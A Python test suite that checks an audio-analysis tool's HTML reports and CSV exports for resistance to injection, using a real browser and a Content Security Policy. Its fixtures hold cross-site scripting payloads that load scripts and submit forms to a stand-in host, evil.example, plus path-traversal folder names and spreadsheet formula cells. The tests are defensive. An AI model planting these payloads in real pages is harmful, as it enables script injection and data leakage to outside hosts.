"""Pages with untrusted names in a real browser: nothing runs or is fetched, even after clicking every link."""

import ast
import csv
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from chromium import PATIENCE, launched

import analysis
from analysis.figures import literal
from analysis.report import index, live
from analysis.spreadsheets import csv_of
from analysis.study import Study
from analysis.study.study_set import Several
from audiolens.errors import InputError
from hostile import strangers

COMMAND = f"audiolens study '</pre><script>{strangers.RUNS}</script>'"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launched() as opened:
        yield opened


@pytest.fixture(scope="module")
def study() -> Study:
    return strangers.study()


@pytest.fixture(scope="module")
def folder(study: Study, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A study with such names, in a folder with such a name."""
    return study.save(tmp_path_factory.mktemp("stranger") / strangers.FOLDERS[1], command=COMMAND)


@pytest.fixture(scope="module")
def several(study: Study, folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    above = tmp_path_factory.mktemp("several")
    studies = tuple(replace(study, concept=name) for name in strangers.FOLDERS)
    for one in studies:
        shutil.copytree(folder, above / one.concept)
    index.write(Several(studies), above, COMMAND)
    return above


class Watched:
    """A page in a browser, with all its requests and console messages recorded."""

    def __init__(self, browser: Any, path: Path) -> None:
        self.page = browser.new_page()
        self.page.set_default_timeout(PATIENCE)
        self.asked: list[str] = []
        self.said: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.goto(path.as_uri(), timeout=PATIENCE)
        self.page.wait_for_timeout(300)

    def refuse_harm(self, *paths: Path) -> None:
        """Check that nothing ran, and that only these files and the page's own data were requested."""
        assert self.page.evaluate("window.ran") is None
        assert {url.partition("#")[0] for url in self.asked if not url.startswith(("data:", "blob:"))} <= {
            path.as_uri() for path in paths
        }


def test_nothing_of_a_page_runs_or_is_fetched_after_every_link(browser: Any, folder: Path) -> None:
    path = folder / "index.html"
    watched = Watched(browser, path)
    watched.page.wait_for_selector("#live-pca .main-svg")
    watched.refuse_harm(path)
    assert watched.said == []
    links = watched.page.locator("a")
    for place in range(links.count()):
        if place % 8 == 7:
            # Chromium blocks downloads that no user started after the tenth one on a page.
            watched.page.reload()
            watched.page.wait_for_selector("#live-pca .main-svg")
        links.nth(place).click(force=True)
    watched.page.wait_for_timeout(500)
    watched.refuse_harm(path)
    assert watched.page.url.partition("#")[0] == path.as_uri()


def test_names_are_shown_as_they_are(browser: Any, folder: Path) -> None:
    watched = Watched(browser, folder / "index.html")
    watched.page.wait_for_selector("#live-pca .main-svg")
    shown = watched.page.inner_text("body")
    for prompt in watched.page.evaluate("[...document.querySelectorAll('h3.prompt')].map(e => e.textContent)"):
        assert any(attack in prompt for attack in strangers.ATTACKS)
    assert f"Steering tempo</title><script>{strangers.RUNS}</script>" in shown
    legend = watched.page.evaluate("[...document.querySelectorAll('#live-pca .legendtext')].map(e => e.textContent)")
    assert set(legend) == set(strangers.POLES)
    assert watched.page.evaluate("document.querySelectorAll('svg a, base, iframe, object').length") == 0
    assert watched.page.evaluate("document.title").startswith("tempo</title>")


def test_links_of_an_index_lead_to_its_folders_alone(browser: Any, several: Path) -> None:
    place = several / "index.html"
    for number, name in enumerate(strangers.FOLDERS):
        watched = Watched(browser, place)
        assert watched.said == []
        watched.page.locator("a.page").nth(number).click()
        watched.page.wait_for_selector("audio", state="attached")
        watched.refuse_harm(place, several / name / "index.html")
        assert watched.page.url == (several / name / "index.html").as_uri()
        watched.page.close()


@pytest.mark.parametrize("name", ["..", ".", "", "a/b", "a\\b", "/etc", "a\0b", "a\x1b[31m", "a\nb"])
def test_what_names_no_folder_is_linked_and_written_nowhere(study: Study, tmp_path: Path, name: str) -> None:
    studies = Several((replace(study, concept="timbre"), replace(study, concept=name)))
    with pytest.raises(InputError, match="cannot name a folder"):
        index.write(studies, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_a_live_figure_of_its_own_runs_nothing(browser: Any, study: Study, tmp_path: Path) -> None:
    path = tmp_path / "figure.html"
    live.write(study.components.figure(), path, title=strangers.ATTACKS[0])
    watched = Watched(browser, path)
    watched.page.wait_for_selector("#figure .main-svg")
    watched.refuse_harm(path)
    assert watched.said == []


@pytest.mark.parametrize("page", ["folder", "several"])
def test_the_policy_holds_where_text_became_markup(
    browser: Any, page: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """The second line of defence: the policy blocks markup that a template let through by mistake."""
    text = (request.getfixturevalue(page) / "index.html").read_text("utf-8")
    let_in = (
        f"<script>{strangers.RUNS}</script><img src=x onerror='{strangers.RUNS}'><a id=evil href='javascript:"
        f"{strangers.RUNS}'>x</a><img src='http://evil.example/x.png'><iframe src='http://evil.example/'></iframe>"
        "<link rel=stylesheet href='http://evil.example/x.css'><form action='http://evil.example/'><button id=send>"
        "x</button></form><script src='http://evil.example/x.js'></script><base href='http://evil.example/'>"
    )
    path = tmp_path / "index.html"
    path.write_text(text.replace("<body>", f"<body>{let_in}"), "utf-8")
    watched = Watched(browser, path)
    for link in ("evil", "send"):
        watched.page.evaluate(f"document.getElementById('{link}').click()")
    watched.page.wait_for_timeout(300)
    assert watched.page.evaluate("window.ran") is None
    assert [url for url in watched.asked if url.startswith("http") and url not in _refused(watched)] == []


def _refused(watched: Watched) -> set[str]:
    """The requested URLs that the page's own policy blocked."""
    return {
        url for url in watched.asked if any(url in said and "Content Security Policy" in said for said in watched.said)
    }


def test_every_page_says_its_policy_before_anything_else(folder: Path, several: Path) -> None:
    for page in (folder, several):
        head = (page / "index.html").read_text("utf-8").partition("<head>")[2]
        assert head.index("Content-Security-Policy") < head.index("<style>") < head.index("<script>")
        policy = head.partition('content="')[2].partition('"')[0]
        assert policy.startswith("default-src &#39;none&#39;; script-src &#39;sha256-")
        assert "http" not in policy
        assert "unsafe" not in policy.replace("style-src &#39;unsafe-inline&#39;", "")


def test_no_cell_of_a_table_is_a_formula(folder: Path) -> None:
    paths = [folder / "clips.csv", *(folder / "tables").iterdir()]
    cells = [cell for path in paths for row in csv.reader(path.open(newline="")) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell and not _number(cell)] == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_what_a_spreadsheet_would_compute_is_text_and_numbers_stay() -> None:
    table = pd.DataFrame({"=a": ["=1", "-2", "-x", "@a", "\t=1", None], "n": [-1.5, 2, np.nan, 3, 4, 5]})
    assert csv_of(table).splitlines() == ["'=a,n", "'=1,-1.5", "-2,2.0", "'-x,", "'@a,3.0", "'\t=1,4.0", ",5.0"]
    plain = pd.DataFrame({"a": [1, 2], "b": ["x", None], "c": [True, False], "d": pd.array([1, None], "Int64")})
    assert csv_of(plain) == plain.to_csv(index=False)
    assert csv_of(plain.set_index("b"), index=True) == plain.set_index("b").to_csv()


def test_a_live_text_is_no_link_no_markup_and_no_mathematics() -> None:
    @literal.literally
    def drawn() -> Any:
        import plotly.graph_objects as go

        figure = go.Figure(
            go.Scatter(x=["<a href='x'>", "$1$"], y=[1, 2], name="<i>$a$</i>", customdata=[["<u>"], ["b"]])
        )
        figure.add_annotation(text="a<br>b <sup>c</sup> <a href='javascript:1'>d</a>")
        return figure.update_layout(
            title="$\\frac$", sliders=[{"steps": [{"label": "<b>", "args": [{}, {"title.text": "$x$"}]}]}]
        )

    made: Any = drawn().update_layout(template=None)
    told = json.dumps([part.to_plotly_json() for part in (*made.data, made.layout)], default=list)
    assert "$" not in told
    assert "<" not in told.replace("<br>", "").replace("<sup>", "").replace("</sup>", "")
    assert "&lt;a href='javascript:1'&gt;d&lt;/a&gt;" in told


def test_every_live_figure_is_literal() -> None:
    """Otherwise plotly could turn a prompt into a link; functions that take a figure get one that is literal."""
    bare = [
        f"{path.name}: {one.name}"
        for path in Path(analysis.__file__).parent.rglob("*.py")
        for one in ast.parse(path.read_text("utf-8")).body
        if isinstance(one, ast.FunctionDef) and not one.name.startswith("_")
        if one.returns is not None and ast.unparse(one.returns) == "go.Figure"
        if "go.Figure" not in ast.unparse(one.args) and "literally" not in map(ast.unparse, one.decorator_list)
    ]
    assert bare == []


@pytest.mark.slow
def test_a_study_drawn_twice_is_the_same_bytes(folder: Path, tmp_path: Path) -> None:
    """Even in another process, at another time, and with another hash seed."""
    program = (
        "import sys; from pathlib import Path; from hostile import strangers\n"
        "strangers.study().save(Path(sys.argv[1]), command=sys.argv[2])"
    )
    again = tmp_path / "again"
    tests = Path(__file__).parents[1]
    # The rest of the environment chooses the kernels, whose sums round differently.
    environment = {**os.environ, "PYTHONPATH": f"{tests.parent}:{tests}", "PYTHONHASHSEED": "1", "OMP_NUM_THREADS": "1"}
    subprocess.run([sys.executable, "-c", program, str(again), COMMAND], check=True, env=environment, cwd=tests.parent)
    # Names only: a comparison of whole pages line by line takes minutes.
    first, second = _bytes(folder), _bytes(again)
    assert [name for name in {**first, **second} if first.get(name) != second.get(name)] == []


def _bytes(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
